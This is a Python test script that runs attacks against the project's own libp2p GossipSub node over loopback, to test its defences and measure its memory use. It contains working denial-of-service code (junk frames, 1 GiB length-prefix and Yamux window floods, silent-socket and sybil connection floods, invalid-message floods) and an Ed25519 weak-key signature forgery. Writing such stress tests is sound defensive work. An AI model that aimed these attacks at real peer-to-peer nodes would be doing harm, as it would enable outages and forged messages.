"""Attacks on a running node's network face, each from a real py-libp2p host (or raw sockets) in
this process: what a stranger can do without any standing. For tests and for the memory figures
in docs/gossip.md; loopback only, never aim it at a node that is not yours.

    python scripts/attack_gossip.py junk ADDR [--senders 5]
    python scripts/attack_gossip.py mss-prefix ADDR [--connections 8] [--mib 64]
    python scripts/attack_gossip.py streams ADDR [--streams 128] [--mib 16] [--kind KIND] [--senders 1]
    python scripts/attack_gossip.py invalid-flood ADDR [--campaign NAME] [--count 500] [--weak-key]
    python scripts/attack_gossip.py relayed ADDR --via RELAY [--campaign NAME] [--count 10]
    python scripts/attack_gossip.py silent ADDR [--sockets 260] [--hold 30] [--pause 0.2]
    python scripts/attack_gossip.py sybil ADDR [--senders 40] [--hold 30] [--campaign NAME]
    python scripts/attack_gossip.py measure ATTACK [its options]   # a fresh node's RSS under it
                                                                   # (scripts/attack_measure.py)

Each prints one line per stage (`started ...`, `done ...`) so that a caller can follow it.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import struct
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

LOOPBACK = "/ip4/127.0.0.1/tcp/0"
PARTIAL = (512 << 10) - 16  # a GossipSub frame just under the node's 512 KiB limit


def _say(*words: object) -> None:
    print(*words, flush=True)


def _tcp_target(addr: str) -> tuple[str, int]:
    parts = addr.split("/")
    ip, port = parts[parts.index("ip4") + 1], int(parts[parts.index("tcp") + 1])
    if ip != "127.0.0.1":
        raise SystemExit(f"{addr}: this script attacks loopback only")
    return ip, port


# ------------------------------------------------------------ junk on /meshsub from fresh keys


@contextlib.asynccontextmanager
async def _gossip_peer(key):
    """A real GossipSub peer of libp2p key pair `key` on loopback, (host, pubsub) while the
    block runs: the node registers it (opens its own stream to it) like any honest peer."""
    import multiaddr
    from libp2p import new_host
    from libp2p.pubsub.gossipsub import PROTOCOL_ID, PROTOCOL_ID_V11, GossipSub
    from libp2p.pubsub.pubsub import Pubsub
    from libp2p.tools.anyio_service import background_trio_service

    host = new_host(key_pair=key, muxer_preference="YAMUX")
    router = GossipSub(protocols=[PROTOCOL_ID_V11, PROTOCOL_ID], degree=6, degree_low=4,
                       degree_high=12, heartbeat_interval=1)  # fmt: skip
    pubsub = Pubsub(host, router, strict_signing=True)
    async with host.run(listen_addrs=[multiaddr.Multiaddr(LOOPBACK)]), \
            background_trio_service(pubsub), background_trio_service(router):  # fmt: skip
        await pubsub.wait_until_ready()
        yield host, pubsub


def junk(addr: str, senders: int) -> None:
    """`senders` fresh identities, one after the other, each dials and sends frames on the
    GossipSub stream that are not protobuf: what killed 0.8.1 hosts (DecodeError) and, after that
    was guarded, raced the node's ban against the library's teardown (KeyError)."""
    import multiaddr
    import trio
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.peer.peerinfo import info_from_p2p_addr
    from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
    from libp2p.utils.varint import encode_uvarint

    from node.identity import Identity

    _tcp_target(addr)
    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))

    async def one(n: int) -> None:
        me = Identity.generate()
        # A real GossipSub peer, so that the node registers it before the junk arrives: the ban
        # then has a registered peer to tear down.
        async with _gossip_peer(create_new_key_pair(me.seed)) as (host, pubsub):
            _say("junker", n, me.peer_id)
            try:
                with trio.fail_after(20):
                    await host.connect(info)
                    _say("connected", n)
                    with trio.move_on_after(5):  # the node's own stream to us: it knows us
                        await pubsub.wait_for_peer(info.peer_id, timeout=5)
                    for frame in (b"\x0a\xff\xff\xff\xff\x0f" + os.urandom(64), os.urandom(200)):
                        stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
                        await stream.write(encode_uvarint(len(frame)) + frame)
                        _say("sent", n)
                        await trio.sleep(0.2)
            except Exception as exc:  # the node drops us: that is what it should do
                _say("send failed:", type(exc).__name__)
            await trio.sleep(0.5)

    async def main() -> None:
        for n in range(senders):
            await one(n)
        _say("done")

    trio.run(main)


# ------------------------------------------------------------ invalid facts, past the ban


def invalid_flood(addr: str, campaign: str, count: int, weak_key: bool = False) -> None:
    """One GossipSub peer sends `count` messages in one frame, each properly signed by libp2p
    but not a fact: the first 20 points get it banned, and every one after must still count.
    With `weak_key` each is a fact of the campaign whose author is the identity point, with the
    signature R = identity, S = 0, which a plain Ed25519 check passes for any message."""
    import multiaddr
    import trio
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.peer.peerinfo import info_from_p2p_addr

    from node.gossip import topic_for
    from node.identity import Identity

    _tcp_target(addr)
    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))
    topic = topic_for(campaign)

    async def main() -> None:
        me = Identity.generate()
        async with _gossip_peer(create_new_key_pair(me.seed)) as (host, pubsub):
            _say("attacker", me.peer_id)
            forged = _weak_key_facts(campaign, count) if weak_key else None
            await _send_invalid(host, pubsub, info, topic, count, forged)
            _say("done", count, "messages sent")

    trio.run(main)


def _weak_key_facts(campaign: str, count: int) -> list[bytes]:
    import msgpack
    from synthetic import synthetic_result

    from node import wire
    from node.identity import Identity

    signer, identity_point, facts = Identity.generate(), bytes([1]) + bytes(31), []
    for n in range(count):
        fact = wire.sign(signer, "result", campaign, n + 1, synthetic_result(n)[0])
        envelope = msgpack.unpackb(fact.raw, raw=False, strict_map_key=False)
        envelope.update(author=identity_point, sig=identity_point + bytes(32))
        facts.append(wire.canonical(envelope))
    return facts


async def _send_invalid(host, pubsub, info, topic: str, count: int, data=None) -> None:
    """Connect to `info` and send it `count` messages in one frame, each properly signed by
    libp2p but not a fact (or the facts in `data`)."""
    import trio
    from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
    from libp2p.pubsub.pb import rpc_pb2
    from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
    from libp2p.utils.varint import encode_uvarint

    key = host.get_private_key(), host.get_public_key()
    with trio.fail_after(20):
        await host.connect(info)
        await pubsub.subscribe(topic)
        await trio.sleep(2)
    messages = []
    for n in range(count):
        msg = rpc_pb2.Message(data=data[n] if data else b"not a fact %d" % n, topicIDs=[topic],
                              from_id=pubsub.my_id.to_bytes(), seqno=os.urandom(8))  # fmt: skip
        msg.signature = key[0].sign(PUBSUB_SIGNING_PREFIX.encode() + msg.SerializeToString())
        msg.key = key[1].serialize()
        messages.append(msg)
    frame = rpc_pb2.RPC(publish=messages).SerializeToString()
    stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
    await stream.write(encode_uvarint(len(frame)) + frame)
    await trio.sleep(3)


def relayed(addr: str, via: str, campaign: str, count: int) -> None:
    """One fresh key gets itself banned by the node at `addr` (invalid messages), then publishes
    `count` valid facts through the node at `via`, which relays them to the first: the library
    drops a banned originator's message however it comes, and each must still count."""
    import multiaddr
    import trio
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.peer.peerinfo import info_from_p2p_addr
    from synthetic import synthetic_result

    from node import wire
    from node.gossip import topic_for
    from node.identity import Identity

    _tcp_target(addr)
    _tcp_target(via)
    target, relay = (info_from_p2p_addr(multiaddr.Multiaddr(a)) for a in (addr, via))
    topic = topic_for(campaign)

    async def main() -> None:
        me = Identity.generate()
        async with _gossip_peer(create_new_key_pair(me.seed)) as (host, pubsub):
            _say("attacker", me.peer_id)
            await _send_invalid(host, pubsub, target, topic, 25)
            _say("banned")
            with trio.fail_after(20):
                await host.connect(relay)
                await pubsub.wait_for_peer(relay.peer_id, timeout=10)
                await trio.sleep(3)  # the relay hears our subscription and takes us in its mesh
            for n in range(count):
                fact = wire.sign(me, "result", campaign, n + 1, synthetic_result(n)[0])
                await pubsub.publish(topic, fact.raw)
                _say("published", fact.id)
            await trio.sleep(3)
            _say("done", count, "facts published through the relay")

    trio.run(main)


# ------------------------------------------------------------ one handshake, many streams


def streams(addr: str, count: int, mib: int, kind: str, senders: int = 1) -> None:
    """`senders` fresh keys, a connection each, then `count` streams at once, each carrying `mib`
    MiB: `frames`: GossipSub streams whose frames announce 1 GiB; `open`: GossipSub streams that
    stay open and silent, each a reader the node keeps; `partial`: GossipSub streams each sending
    all but the last byte of a frame just under the node's limit (512 KiB), inside every cap;
    `window`: data pushed down the node's own GossipSub stream to us, which it only writes to
    (Yamux's receive window, not enforced by 0.8.1, is all that should bound it)."""
    import multiaddr
    import trio
    from libp2p import new_host
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.peer.peerinfo import info_from_p2p_addr
    from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11

    from node.identity import Identity

    _tcp_target(addr)
    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))
    chunk = b"\x00" * (64 << 10)
    sent = [0]
    opened = [0]

    async def push(stream) -> None:
        try:
            if kind == "open":
                return
            if kind == "partial":  # never a whole frame: the node's reader holds what came
                await stream.write(_uvarint(PARTIAL) + b"\x00" * (PARTIAL - 1))
                sent[0] += PARTIAL
                return
            if kind == "frames":
                await stream.write(_uvarint(1 << 30))
            # Down the node's own stream, as raw Yamux DATA frames: no send window is honoured.
            muxed = stream.muxed_stream
            header = struct.pack("!BBHII", 0, 0, 0, muxed.stream_id, len(chunk))
            for _ in range(mib * 16):
                if kind == "window":
                    await muxed.muxed_conn._write_frame(header + chunk)
                else:
                    await stream.write(chunk)
                sent[0] += len(chunk)
        except Exception as exc:
            _say("stream closed:", type(exc).__name__)

    async def sender() -> None:
        me = Identity.generate()
        host = new_host(key_pair=create_new_key_pair(me.seed), muxer_preference="YAMUX")
        async with (
            host.run(listen_addrs=[multiaddr.Multiaddr(LOOPBACK)]),
            trio.open_nursery() as nursery,
        ):
            if kind == "window":  # the node opens its GossipSub stream to us: write down it
                host.set_stream_handler(PROTOCOL_ID_V11, push)
            _say("attacker", me.peer_id)
            try:
                with trio.fail_after(20):
                    await host.connect(info)
            except Exception as exc:  # refused (a cap, a ban): the other senders go on
                _say("connect failed:", type(exc).__name__)
                return
            _say("connected")
            if kind != "window":
                for _ in range(count):
                    try:
                        with trio.fail_after(10):
                            stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
                    except Exception as exc:
                        _say("stream refused:", type(exc).__name__)
                        continue
                    opened[0] += 1
                    nursery.start_soon(push, stream)
            with trio.move_on_after(float(os.environ.get("ATTACK_SECONDS", "20"))):
                while True:
                    await trio.sleep(1)
            nursery.cancel_scope.cancel()

    async def main() -> None:
        async with trio.open_nursery() as nursery:
            for _ in range(senders):
                nursery.start_soon(sender)
        _say("done", opened[0], "streams opened,", sent[0] >> 20, "MiB sent")

    trio.run(main)


# ------------------------------------------------------------ many fresh identities at once


def sybil(addr: str, senders: int, hold: float, campaign: str, stall: bool) -> None:
    """`senders` fresh identities, each a real GossipSub peer, dial at once, join the campaign's
    topic and stay `hold` seconds, saying nothing: what a stranger with free keys does to the
    node's connections and to its honest peers' gossip."""
    import multiaddr
    import trio
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.peer.peerinfo import info_from_p2p_addr

    from node.gossip import topic_for
    from node.identity import Identity

    _tcp_target(addr)
    info = info_from_p2p_addr(multiaddr.Multiaddr(addr))
    topic = topic_for(campaign)
    joined, refused = [0], [0]

    async def one(ready: trio.Event) -> None:
        me = Identity.generate()
        async with _gossip_peer(create_new_key_pair(me.seed)) as (host, pubsub):
            await ready.wait()
            try:
                with trio.fail_after(30):
                    await host.connect(info)
                    await pubsub.subscribe(topic)
                joined[0] += 1
            except Exception:  # refused or cut: what the node should do past its caps
                refused[0] += 1
            await trio.sleep_forever()

    async def main() -> None:
        ready = trio.Event()
        async with trio.open_nursery() as nursery:
            for _ in range(senders):
                nursery.start_soon(one, ready)
            await trio.sleep(2)  # every host up before any dials
            _say("started", senders)
            ready.set()
            await trio.sleep(5)
            _say("joined", joined[0], "refused", refused[0])
            if stall:  # stop reading every socket: the process hangs, its connections stay up
                _say("stalled")
                time.sleep(hold)
            else:
                await trio.sleep(hold)
            nursery.cancel_scope.cancel()
        _say("done", joined[0], "joined,", refused[0], "refused")

    trio.run(main)


# ------------------------------------------------------------ unauthenticated memory


def mss_prefix(addr: str, connections: int, mib: int) -> None:
    """Raw TCP: a multistream-select length prefix of 1 GiB, then `mib` MiB of data, on each of
    `connections` sockets at once, before any handshake. An unguarded 0.8.1 node buffers it all."""
    target = _tcp_target(addr)
    sent = [0] * connections

    def flood(i: int) -> None:
        chunk = b"\x00" * (1 << 20)
        try:
            with socket.create_connection(target, timeout=30) as sock:
                sock.sendall(_uvarint(1 << 30))
                for _ in range(mib):
                    sock.sendall(chunk)
                    sent[i] += 1
                time.sleep(float(os.environ.get("ATTACK_HOLD", "3")))  # hold what it buffered
        except OSError as exc:
            _say(f"connection {i} closed after {sent[i]} MiB: {exc.strerror or exc}")

    threads = [threading.Thread(target=flood, args=(i,)) for i in range(connections)]
    for thread in threads:
        thread.start()
    _say("started", connections)
    for thread in threads:
        thread.join()
    _say("done", sum(sent), "MiB sent")


def silent(addr: str, sockets: int, hold: float, pause: float) -> None:
    """`sockets` TCP connections that never say a word, each reopened as soon as the node closes
    it, for `hold` seconds: py-libp2p lets 250 inbound connections wait 10 s in their handshake."""
    target = _tcp_target(addr)
    end = time.monotonic() + hold
    opened, closed = [0], [0]

    def keep_one() -> None:
        while time.monotonic() < end:
            try:
                with socket.create_connection(target, timeout=5) as sock:
                    opened[0] += 1
                    sock.settimeout(max(0.1, end - time.monotonic()))
                    try:
                        while sock.recv(4096):  # the node's multistream header: never answered
                            pass
                        closed[0] += 1  # the node gave up on us: come straight back
                    except TimeoutError:
                        pass
                    except OSError:
                        closed[0] += 1
            except OSError:
                pass
            time.sleep(pause)  # then open it again

    threads = [threading.Thread(target=keep_one, daemon=True) for _ in range(sockets)]
    for thread in threads:
        thread.start()
    _say("started", sockets)
    for thread in threads:
        thread.join()
    _say("done", opened[0], "opened,", closed[0], "closed by the node")


def _uvarint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "measure":
        from attack_measure import measure  # this script's folder is on the path

        measure(sys.argv[2:])
        raise SystemExit(0)
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "attack",
        choices=["junk", "mss-prefix", "streams", "invalid-flood", "relayed", "silent", "sybil"],
    )
    parser.add_argument("addr")
    parser.add_argument("--via", help="relayed: the address of the node that relays")
    parser.add_argument("--stall", action="store_true", help="sybil: stop reading once joined")
    parser.add_argument(
        "--weak-key", action="store_true", help="invalid-flood: facts by a weak key"
    )
    parser.add_argument("--senders", type=int, help="fresh keys: junk and sybil 5, streams 1")
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--mib", type=int, default=64)
    parser.add_argument("--campaign", default="attack")
    parser.add_argument("--count", type=int, default=500)
    parser.add_argument("--sockets", type=int, default=260)
    parser.add_argument("--hold", type=float, default=30.0)
    parser.add_argument("--pause", type=float, default=0.2)
    parser.add_argument("--streams", type=int, default=128)
    parser.add_argument("--kind", choices=["frames", "open", "partial", "window"], default="frames")
    args = parser.parse_args()
    if args.attack == "junk":
        junk(args.addr, args.senders or 5)
    elif args.attack == "mss-prefix":
        mss_prefix(args.addr, args.connections, args.mib)
    elif args.attack == "silent":
        silent(args.addr, args.sockets, args.hold, args.pause)
    elif args.attack == "sybil":
        sybil(args.addr, args.senders or 5, args.hold, args.campaign, args.stall)
    elif args.attack == "invalid-flood":
        invalid_flood(args.addr, args.campaign, args.count, args.weak_key)
    elif args.attack == "relayed":
        if not args.via:
            parser.error("relayed needs --via ADDR, the node that relays")
        relayed(args.addr, args.via, args.campaign, args.count)
    elif args.attack == "streams":
        streams(args.addr, args.streams, args.mib, args.kind, args.senders or 1)
